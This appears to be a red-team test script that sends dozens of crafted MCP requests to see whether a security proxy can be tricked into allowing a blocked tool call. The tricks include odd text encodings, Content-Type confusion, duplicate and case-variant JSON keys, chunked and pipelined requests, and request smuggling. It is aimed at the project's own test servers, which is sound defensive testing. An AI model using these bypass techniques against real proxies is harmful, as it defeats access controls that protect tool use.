"""Crafted MCP requests that try to run a blocked tool past a proxy that inspects tools/call.

  attack.py --url URL [--ca CA.pem] [--case-timeout 2] --case NAME | --all
  attack.py --list

A raw HTTP/1.1 client (socket + ssl, stdlib only) with full control of the bytes on the wire.
Each case sends ONE crafted request that asks the server to run the tool `dangerous` with the
argument text set to the case name, dressed so that a naive proxy that blocks `tools/call` of
`dangerous` may not recognise it. Before it, a case opens a fresh session of its own (initialize,
then notifications/initialized, keeping the Mcp-Session-Id and the negotiated protocol version for
the MCP-Protocol-Version header); the stateless 2026-07-28 cases (modern_*) open none. Every HTTP
request of every case goes on a TCP (+TLS) connection of its own, with a TLS context of its own
(so no TLS session is resumed either); the pipelined case sends its two requests on one. It prints
one JSON line per case, in the order of --list:

  {"case": NAME, "session": the Mcp-Session-Id the case used (None if it used none),
   "stage": "initialize", "initialized" or "request": the exchange the case got to,
   "status": HTTP status of the last response of that exchange (None if none came),
   "body_head": first 300 bytes of its body (de-chunked), "error": None or what went wrong}

A refusal anywhere (an HTTP error status answering the handshake or a JSON-RPC error answering
initialize, a TLS alert, a reset, a close before the answer, a timeout) ends the case with "error"
set and "stage" naming where it happened; an HTTP error status or a JSON-RPC error answering the
crafted request is an answer like any other (status and body_head show it, error stays None). No
case can stop --all: each runs within --case-timeout seconds (default 2), whatever goes wrong is
reported, and the exit status is 0.

Whether the tool really ran is not visible here: the fixture servers (servers.py, server.mjs)
append a line to their marker file when `dangerous` runs. The host of URL is resolved with
getaddrinfo (so /etc/hosts applies) and sent as SNI; --ca is the PEM bundle to trust (default:
the system store).
"""

import argparse
import base64
import gzip
import json
import socket
import ssl
import sys
import time
import zlib
from dataclasses import dataclass
from urllib.parse import urlsplit

CASE_TIMEOUT = 2.0
"""Seconds one case (handshake and crafted request) may take before it is reported with a timeout."""

HANDSHAKE_VERSION = "2025-11-25"
MODERN_VERSION = "2026-07-28"
JSON_CT = "application/json"


@dataclass
class Target:
    """Where the server is: scheme, host (for DNS, SNI and Host), port, path."""

    tls: bool
    host: str
    port: int
    path: str
    ca: str | None

    @classmethod
    def parse(cls, url, ca):
        u = urlsplit(url)
        tls = u.scheme == "https"
        return cls(tls, u.hostname, u.port or (443 if tls else 80), u.path or "/", ca)

    @property
    def host_header(self):
        default = 443 if self.tls else 80
        return self.host if self.port == default else f"{self.host}:{self.port}"


@dataclass
class Response:
    status: int
    headers: list[tuple[str, str]]
    body: bytes

    def header(self, name):
        return next((v for k, v in self.headers if k.lower() == name), None)

    def messages(self):
        """JSON-RPC messages in the body: the JSON itself, or each SSE event's data."""
        if (self.header("content-type") or "").startswith("text/event-stream"):
            out, data = [], []
            for line in self.body.decode("utf-8", "replace").replace("\r\n", "\n").split("\n"):
                if line.startswith("data:"):
                    data.append(line[5:].removeprefix(" "))
                elif line == "" and data:
                    out.append(json.loads("\n".join(data)))
                    data = []
            return out
        return [json.loads(self.body)] if self.body else []


def left(deadline):
    """Seconds until `deadline` (time.monotonic()); TimeoutError once it passed."""
    seconds = deadline - time.monotonic()
    if seconds <= 0:
        raise TimeoutError("timed out")
    return seconds


class Connection:
    """One new TCP (+TLS) connection that sends raw bytes and reads HTTP/1.1 responses, every
    operation (connect and TLS handshake included) bounded by `deadline`."""

    def __init__(self, target, deadline):
        err = None
        for family, kind, proto, _, addr in socket.getaddrinfo(target.host, target.port, type=socket.SOCK_STREAM):
            sock = socket.socket(family, kind, proto)
            try:
                sock.settimeout(left(deadline))
                sock.connect(addr)
                break
            except OSError as e:
                sock.close()
                err = e
        else:
            raise err or OSError(f"cannot resolve {target.host}")
        if target.tls:
            ctx = ssl.create_default_context(cafile=target.ca)
            ctx.set_alpn_protocols(["http/1.1"])
            sock = ctx.wrap_socket(sock, server_hostname=target.host)
        self.sock = sock
        self.buf = b""

    def close(self):
        self.sock.close()

    def send(self, data, deadline):
        self.sock.settimeout(left(deadline))
        self.sock.sendall(data)

    def _fill(self, deadline):
        self.sock.settimeout(left(deadline))
        data = self.sock.recv(65536)
        if not data:
            raise EOFError("connection closed")
        self.buf += data

    def _take_until(self, sep, deadline):
        while sep not in self.buf:
            self._fill(deadline)
        head, self.buf = self.buf.split(sep, 1)
        return head

    def _take(self, n, deadline):
        while len(self.buf) < n:
            self._fill(deadline)
        data, self.buf = self.buf[:n], self.buf[n:]
        return data

    def read_head(self, deadline):
        """Status and headers of the next response (interim 1xx responses included)."""
        lines = self._take_until(b"\r\n\r\n", deadline).decode("latin-1").split("\r\n")
        status = int(lines[0].split(" ")[1])
        headers = [tuple(part.strip() for part in line.split(":", 1)) for line in lines[1:] if ":" in line]
        return status, headers

    def read_response(self, deadline, partial, *, interim=False):
        """The next final response (with `interim`, an interim 1xx one is returned too);
        `partial` receives what arrived, also when the read fails midway."""
        status, headers = self.read_head(deadline)
        while 100 <= status < 200 and not interim:
            status, headers = self.read_head(deadline)
        partial.status, partial.headers = status, headers
        if 100 <= status < 200 or status in (204, 304):
            return Response(status, headers, b"")
        get = {k.lower(): v for k, v in headers}
        if "chunked" in get.get("transfer-encoding", "").lower():
            while True:
                size = int(self._take_until(b"\r\n", deadline).split(b";")[0], 16)
                if size == 0:
                    while self._take_until(b"\r\n", deadline):  # trailers, then the empty line
                        pass
                    return Response(status, headers, partial.body)
                partial.body += self._take(size, deadline)
                self._take(2, deadline)
        length = int(get["content-length"]) if "content-length" in get else None
        try:
            while length is None or len(self.buf) < length:
                partial.body = self.buf  # what arrived so far, if the read fails
                self._fill(deadline)
        except EOFError:
            if length is not None:
                raise
            length = len(self.buf)  # a body delimited by the end of the connection
        partial.body, self.buf = self.buf[:length], self.buf[length:]
        return Response(status, headers, partial.body)


@dataclass
class Session:
    """The session a crafted request names (no Mcp-Session-Id when session_id is None) and the
    MCP-Protocol-Version it sends."""

    target: Target
    session_id: str | None
    version: str


def head(target, *, path=None, headers=(), content_type=JSON_CT, session=None, length=None):
    """A POST head: request line and headers in this exact order, ending with CRLF CRLF."""
    lines = [f"POST {path or target.path} HTTP/1.1", f"Host: {target.host_header}"]
    lines.append("Accept: application/json, text/event-stream")
    if content_type is not None:
        lines.append(f"Content-Type: {content_type}")
    if session is not None:
        if session.session_id:
            lines.append(f"Mcp-Session-Id: {session.session_id}")
        lines.append(f"MCP-Protocol-Version: {session.version}")
    lines += [f"{k}: {v}" for k, v in headers]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def post(target, body, **kw):
    return head(target, length=len(body), **kw) + body


def exchange(target, data, deadline, partial):
    """Send `data` on a new connection and read one response into `partial`."""
    conn = Connection(target, deadline)
    try:
        conn.send(data, deadline)
        return conn.read_response(deadline, partial)
    finally:
        conn.close()


def handshake(target, deadline, out):
    """initialize + notifications/initialized, reported to `out` (an Outcome) as they go;
    the session the crafted request then uses."""
    init = {
        "jsonrpc": "2.0",
        "id": 0,
        "method": "initialize",
        "params": {
            "protocolVersion": HANDSHAKE_VERSION,
            "capabilities": {},
            "clientInfo": {"name": "airlock-redteam", "version": "1.0"},
        },
    }
    r = exchange(target, post(target, compact(init)), deadline, out.begin("initialize"))
    if r.status != 200:
        raise RuntimeError(f"initialize refused with HTTP {r.status}")
    result = next((m["result"] for m in r.messages() if isinstance(m, dict) and m.get("id") == 0 and "result" in m), None)
    if not isinstance(result, dict):
        raise RuntimeError("initialize answered without a result")
    session = Session(target, r.header("mcp-session-id"), result.get("protocolVersion", HANDSHAKE_VERSION))
    out.session = session.session_id
    done = compact({"jsonrpc": "2.0", "method": "notifications/initialized"})
    r = exchange(target, post(target, done, session=session), deadline, out.begin("initialized"))
    if r.status not in (200, 202):
        raise RuntimeError(f"notifications/initialized refused with HTTP {r.status}")
    return session


def compact(obj):
    return json.dumps(obj, separators=(",", ":")).encode()


def call(case, *, name="dangerous", id=1, **params):
    """The tools/call request object (extra keyword arguments join params)."""
    return {"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": name, "arguments": {"text": case}, **params}}


# Hand-written JSON texts for the cases that need exact bytes; $CASE becomes the case name.
CALL_T = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"dangerous","arguments":{"text":"$CASE"}}}'
SAFE_PARAMS = '{"name":"safe","arguments":{"text":"$CASE"}}'
DANGEROUS_PARAMS = '{"name":"dangerous","arguments":{"text":"$CASE"}}'


def raw(text, case):
    """A hand-written JSON text (duplicate keys, escapes...) with $CASE replaced by the case name."""
    return text.replace("$CASE", case).encode()


# ---- how a case goes on the wire -------------------------------------------------------------


@dataclass
class Attack:
    """Byte segments, each sent with its own write (so its own TLS record when it is small);
    `responses` responses are read, the last one reported; `wait_continue` waits for the
    interim 100 Continue after the first segment."""

    segments: list[bytes]
    responses: int = 1
    wait_continue: bool = False


def simple(s, body, **kw):
    return Attack([post(s.target, body, session=s, **kw)])


def encoded(encoding, bom=b""):
    def build(s, case):
        return simple(s, bom + json.dumps(call(case)).encode(encoding))

    return build


def content_type(value):
    return lambda s, case: simple(s, compact(call(case)), content_type=value)


def charset_body(value, encoding, bom=b""):
    return lambda s, case: simple(s, bom + json.dumps(call(case)).encode(encoding), content_type=value)


def template(text):
    return lambda s, case: simple(s, raw(text, case))


def prefixed(prefix):
    return lambda s, case: simple(s, prefix + compact(call(case)))


def with_id(value):
    return template(CALL_T.replace('"id":1,', f'"id":{value},'))


def on_path(path):
    return lambda s, case: simple(s, compact(call(case)), path=path)


def compressed(coding, compress):
    return lambda s, case: simple(s, compress(compact(call(case))), headers=[("Content-Encoding", coding)])


def deep_nesting(s, case):
    depth = 5000
    body = compact(call(case))[:-3] + b',"deep":' + b"[" * depth + b"]" * depth + b"}}}"
    return simple(s, body)


def batch(*members):
    def build(s, case):
        return simple(s, b"[" + b",".join(m(case) for m in members) + b"]")

    return build


def dangerous_member(case):
    return compact(call(case))


def chunked_body(s, case):
    body = compact(call(case))
    cuts = [body.index(b"tools/") + 6, body.index(b"dangerous") + 4, len(body)]
    pieces, start = [], 0
    for end in cuts:
        pieces.append(b"%x\r\n%s\r\n" % (end - start, body[start:end]))
        start = end
    first = head(s.target, session=s, headers=[("Transfer-Encoding", "chunked")])
    return Attack([first, *pieces, b"0\r\n\r\n"])


def split_writes(s, case):
    wire = post(s.target, compact(call(case)), session=s)
    cut = wire.index(b"dangerous") + 3
    return Attack([wire[:cut], wire[cut : cut + 3], wire[cut + 3 :]])


def pipelined(s, case):
    first = post(s.target, compact(call(case, name="safe", id=2)), session=s)
    return Attack([first + post(s.target, compact(call(case)), session=s)], responses=2)


def expect_continue(s, case):
    body = compact(call(case))
    return Attack([head(s.target, session=s, headers=[("Expect", "100-continue")], length=len(body)), body], wait_continue=True)


def te_and_cl(s, case):
    body = compact(call(case))
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    hdrs = [("Transfer-Encoding", "chunked")]
    return Attack([head(s.target, session=s, headers=hdrs, length=len(chunked)) + chunked])


def duplicate_content_type(s, case):
    body = compact(call(case))
    return simple(s, body, headers=[("Content-Type", "text/plain")])


def modern(body_of, *, ct=JSON_CT, name_header="dangerous"):
    """A stateless 2026-07-28 request: no session, envelope in params._meta, routing headers.
    The case opens no session (`stateless`)."""

    def build(s, case):
        meta = {
            "io.modelcontextprotocol/protocolVersion": MODERN_VERSION,
            "io.modelcontextprotocol/clientCapabilities": {},
            "io.modelcontextprotocol/clientInfo": {"name": "airlock-redteam", "version": "1.0"},
        }
        hdrs = [("MCP-Protocol-Version", MODERN_VERSION), ("Mcp-Method", "tools/call"), ("Mcp-Name", name_header)]
        return Attack([post(s.target, body_of(call(case, _meta=meta)), content_type=ct, headers=hdrs)])

    build.stateless = True
    return build


def utf16_bom(obj):
    return b"\xff\xfe" + json.dumps(obj).encode("utf-16-le")


CASES = [
    ("plain", "control: an ordinary tools/call of dangerous", lambda s, c: simple(s, compact(call(c)))),
    ("bom_utf8", "UTF-8 body with a BOM", encoded("utf-8", b"\xef\xbb\xbf")),
    ("utf16le", "UTF-16LE body, no BOM", encoded("utf-16-le")),
    ("utf16le_bom", "UTF-16LE body with its BOM", encoded("utf-16-le", b"\xff\xfe")),
    ("utf16be", "UTF-16BE body, no BOM", encoded("utf-16-be")),
    ("utf16be_bom", "UTF-16BE body with its BOM", encoded("utf-16-be", b"\xfe\xff")),
    ("utf32le", "UTF-32LE body, no BOM", encoded("utf-32-le")),
    ("utf32le_bom", "UTF-32LE body with its BOM", encoded("utf-32-le", b"\xff\xfe\x00\x00")),
    ("utf32be", "UTF-32BE body, no BOM", encoded("utf-32-be")),
    ("utf32be_bom", "UTF-32BE body with its BOM", encoded("utf-32-be", b"\x00\x00\xfe\xff")),
    ("ct_list", "Content-Type: application/json, text/plain", content_type("application/json, text/plain")),
    ("ct_list_reversed", "Content-Type: text/plain, application/json", content_type("text/plain, application/json")),
    ("ct_params", "Content-Type: application/json; foo=bar", content_type("application/json; foo=bar")),
    ("ct_upper", "Content-Type: APPLICATION/JSON", content_type("APPLICATION/JSON")),
    ("ct_malformed_params", "Content-Type: application/json; charset= (unparseable parameters)", content_type("application/json; charset=")),
    ("ct_plus_json", "Content-Type: application/vnd.x+json", content_type("application/vnd.x+json")),
    ("ct_text_plain", "Content-Type: text/plain", content_type("text/plain")),
    ("ct_missing", "no Content-Type header", content_type(None)),
    ("ct_duplicate", "two Content-Type headers: application/json, then text/plain", duplicate_content_type),
    ("ct_charset_utf16", "application/json; charset=utf-16 with a UTF-16LE body (BOM)", charset_body("application/json; charset=utf-16", "utf-16-le", b"\xff\xfe")),
    ("ct_charset_utf16be", "application/json; charset=utf-16be with a UTF-16BE body (no BOM)", charset_body("application/json; charset=utf-16be", "utf-16-be")),
    ("ct_charset_utf32", "application/json; charset=utf-32 with a UTF-32LE body (BOM)", charset_body("application/json; charset=utf-32", "utf-32-le", b"\xff\xfe\x00\x00")),
    ("ct_charset_ext_utf16", "application/json; charset*=utf-8''utf-16 (RFC 2231 extended notation) with a UTF-16LE body (BOM)", charset_body("application/json; charset*=utf-8''utf-16", "utf-16-le", b"\xff\xfe")),
    ("ct_charset_sections_utf16", "application/json; charset*0=utf; charset*1=-16 (RFC 2231 continuations) with a UTF-16LE body (BOM)", charset_body("application/json; charset*0=utf; charset*1=-16", "utf-16-le", b"\xff\xfe")),
    ("ct_charset_ext_plain", "application/json; charset*=utf-8''utf-16 over a plain UTF-8 body", content_type("application/json; charset*=utf-8''utf-16")),
    ("ct_charset_two_notations", "application/json; charset=utf-8; charset*=utf-8''utf-16 over a plain UTF-8 body", content_type("application/json; charset=utf-8; charset*=utf-8''utf-16")),
    ("dup_key_name", 'params {"name":"safe",...,"name":"dangerous"}', template('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"safe","arguments":{"text":"$CASE"},"name":"dangerous"}}')),
    ("dup_key_method", 'method tools/list first, tools/call last', template('{"jsonrpc":"2.0","id":1,"method":"tools/list","params":' + DANGEROUS_PARAMS + ',"method":"tools/call"}')),
    ("dup_key_params", "params naming safe first, dangerous last", template('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + SAFE_PARAMS + ',"params":' + DANGEROUS_PARAMS + "}")),
    ("case_key_Method", '"method":"tools/list" plus "Method":"tools/call" (case-insensitive decoders)', template('{"jsonrpc":"2.0","id":1,"method":"tools/list","Method":"tools/call","params":' + DANGEROUS_PARAMS + "}")),
    ("case_key_Params", '"params" naming safe plus "Params" naming dangerous', template('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + SAFE_PARAMS + ',"Params":' + DANGEROUS_PARAMS + "}")),
    ("case_key_Name", '"name":"safe" plus "Name":"dangerous"', template('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"safe","arguments":{"text":"$CASE"},"Name":"dangerous"}}')),
    ("fold_key", '"params" naming safe plus "paramſ" (U+017F long s) naming dangerous', template('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + SAFE_PARAMS + ',"param\u017f":' + DANGEROUS_PARAMS + "}")),
    ("escaped_method_slash", 'method "tools\\/call"', template(CALL_T.replace("tools/call", "tools\\/call"))),
    ("escaped_method_unicode", 'method "\\u0074ools/call"', template(CALL_T.replace("tools/call", "\\u0074ools/call"))),
    ("escaped_name", 'tool name "\\u0064angerous"', template(CALL_T.replace('"dangerous"', '"\\u0064angerous"'))),
    ("escaped_key", 'key "n\\u0061me" for the tool name', template(CALL_T.replace('"name"', '"n\\u0061me"'))),
    ("lone_surrogate", "argument text ends in a lone \\ud800 escape", template(CALL_T.replace("$CASE", "$CASE\\ud800"))),
    ("nan_arg", "extra arguments NaN and -Infinity", template(CALL_T.replace('"}}}', '","n":NaN,"m":-Infinity}}}'))),
    ("deep_nesting", "extra argument nested 5000 arrays deep", deep_nesting),
    ("batch_mixed", "JSON array: an invalid member, then the call", batch(lambda c: b'{"invalid":true}', dangerous_member)),
    ("batch_unknown_method", "JSON array: a request for an unknown method, then the call", batch(lambda c: b'{"jsonrpc":"2.0","id":2,"method":"bogus/method"}', dangerous_member)),
    ("batch_first_safe", "JSON array: a call of safe, then the call of dangerous", batch(lambda c: compact(call(c, name="safe", id=2)), dangerous_member)),
    ("batch_only_call", "JSON array holding only the call", batch(dangerous_member)),
    ("notification_call", "tools/call without an id (a notification)", template('{"jsonrpc":"2.0","method":"tools/call","params":' + DANGEROUS_PARAMS + "}")),
    ("id_float", "id 1.0", with_id("1.0")),
    ("id_exponent", "id 1e0", with_id("1e0")),
    ("id_bool", "id true", with_id("true")),
    ("id_object", 'id {"a":1}', with_id('{"a":1}')),
    ("id_null", "id null", with_id("null")),
    ("big_int_id", "id 2**64+1", with_id(str(2**64 + 1))),
    ("method_and_result", 'a request that also has "result":{}', template(CALL_T[:-1] + ',"result":{}}')),
    ("gzip_body", "Content-Encoding: gzip body", compressed("gzip", lambda b: gzip.compress(b, mtime=0))),
    ("deflate_body", "Content-Encoding: deflate (zlib) body", compressed("deflate", zlib.compress)),
    ("chunked_body", "Transfer-Encoding: chunked, cut inside tools/call and dangerous, one write per chunk", chunked_body),
    ("split_writes", "Content-Length body sent in three writes cut inside dangerous", split_writes),
    ("trailing_garbage", "the call followed by garbage bytes", lambda s, c: simple(s, compact(call(c)) + b"garbage")),
    ("pipelined", "a call of safe and the call of dangerous pipelined in one write", pipelined),
    ("expect_continue", "Expect: 100-continue, body after the interim response", expect_continue),
    ("te_and_cl", "both Transfer-Encoding: chunked and Content-Length", te_and_cl),
    ("path_trailing_slash", "POST /mcp/", on_path("/mcp/")),
    ("path_upper", "POST /MCP", on_path("/MCP")),
    ("path_query", "POST /mcp?x=1", on_path("/mcp?x=1")),
    ("path_double_slash", "POST //mcp", on_path("//mcp")),
    ("path_dot_segment", "POST /x/../mcp", on_path("/x/../mcp")),
    ("path_percent", "POST /%6dcp", on_path("/%6dcp")),
    ("whitespace_crlf_tab", "JSON whitespace CR LF TAB before the body", prefixed(b"\r\n\t ")),
    ("whitespace_formfeed", "form feed before the body", prefixed(b"\x0c")),
    ("whitespace_vtab", "vertical tab before the body", prefixed(b"\x0b")),
    ("whitespace_nbsp", "UTF-8 NO-BREAK SPACE before the body", prefixed("\u00a0".encode())),
    ("tasks_call", 'tools/call with params.task = {"ttl": 60000}', lambda s, c: simple(s, compact(call(c, task={"ttl": 60000})))),
    ("modern_plain", "stateless 2026-07-28 request, no session (routing headers, _meta envelope)", modern(compact)),
    ("modern_ct_text", "2026-07-28 request with Content-Type: text/plain", modern(compact, ct="text/plain")),
    ("modern_ct_jsonx", "2026-07-28 request with Content-Type: application/jsonx", modern(compact, ct="application/jsonx")),
    ("modern_utf16", "2026-07-28 request, UTF-16LE body with BOM", modern(utf16_bom)),
    ("modern_lone_surrogate", "2026-07-28 request, argument text ends in a lone \\ud800 escape", modern(lambda o: compact(o).replace(b'"},"_meta"', b'\\ud800"},"_meta"'))),
    ("modern_name_b64", "2026-07-28 request, Mcp-Name header base64-encoded", modern(compact, name_header="=?base64?" + base64.b64encode(b"dangerous").decode() + "?=")),
    # Two tricks at once: a body a naive proxy does not take for JSON, under a media type it
    # does not take for JSON either, that the server still reads as JSON.
    ("bom_ct_list", "UTF-8 BOM body under Content-Type: application/json, text/plain", lambda s, c: simple(s, b"\xef\xbb\xbf" + compact(call(c)), content_type="application/json, text/plain")),
    ("utf16_bom_ct_list", "UTF-16LE body (BOM) under Content-Type: application/json, text/plain", lambda s, c: simple(s, utf16_bom(call(c)), content_type="application/json, text/plain")),
    ("modern_bom_jsonx", "2026-07-28 request, UTF-8 BOM body under application/jsonx", modern(lambda o: b"\xef\xbb\xbf" + compact(o), ct="application/jsonx")),
    ("modern_utf16_jsonx", "2026-07-28 request, UTF-16LE body (BOM) under application/jsonx", modern(utf16_bom, ct="application/jsonx")),
]


class Outcome:
    """What one case reports; filled in as far as the case got."""

    def __init__(self, case):
        self.case, self.session, self.stage, self.partial, self.error = case, None, None, Response(0, [], b""), None

    def begin(self, stage):
        """Start the exchange `stage`; the Response it fills in."""
        self.stage, self.partial = stage, Response(0, [], b"")
        return self.partial

    def line(self):
        status = self.partial.status or None
        head = self.partial.body[:300].decode("utf-8", "replace")
        fields = {"case": self.case, "session": self.session, "stage": self.stage, "status": status, "body_head": head, "error": self.error}
        return json.dumps(fields)


def send_attack(target, attack, deadline, out):
    """Send the crafted request(s) on a new connection; the last response goes to `out`."""
    conn = Connection(target, deadline)
    try:
        first, *rest = attack.segments
        conn.send(first, deadline)
        if attack.wait_continue and conn.read_response(deadline, out.partial, interim=True).status != 100:
            return  # answered (refused) before the body: that is the response
        for segment in rest:
            conn.send(segment, deadline)
        for _ in range(attack.responses):
            partial = Response(0, [], b"")
            try:
                conn.read_response(deadline, partial)
            finally:
                if partial.status:  # a response that never began leaves the previous one reported
                    out.partial = partial
    finally:
        conn.close()


def run_case(target, name, case_timeout=CASE_TIMEOUT):
    """Run one case within `case_timeout` seconds; return its JSON line."""
    out = Outcome(name)
    build = dict((n, b) for n, _, b in CASES)[name]
    deadline = time.monotonic() + case_timeout
    try:
        stateless = getattr(build, "stateless", False)
        session = Session(target, None, MODERN_VERSION) if stateless else handshake(target, deadline, out)
        attack = build(session, name)
        out.begin("request")
        send_attack(target, attack, deadline, out)
    except Exception as e:  # reported, never raised: one failing case must not stop --all
        out.error = f"{type(e).__name__}: {e}"
    return out.line()


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--url", help="the server's MCP endpoint, e.g. https://mcp.internal.test:8443/mcp")
    p.add_argument("--ca", help="PEM CA bundle to trust (default: the system store)")
    p.add_argument("--case-timeout", type=float, default=CASE_TIMEOUT, help=f"seconds per case (default {CASE_TIMEOUT:g})")
    mode = p.add_mutually_exclusive_group(required=True)
    mode.add_argument("--case", choices=[n for n, _, _ in CASES])
    mode.add_argument("--all", action="store_true")
    mode.add_argument("--list", action="store_true")
    args = p.parse_args()
    if args.list:
        for name, description, _ in CASES:
            print(f"{name}\t{description}")
        return 0
    if not args.url:
        p.error("--url is required")
    target = Target.parse(args.url, args.ca)
    for name in [n for n, _, _ in CASES] if args.all else [args.case]:
        print(run_case(target, name, args.case_timeout), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
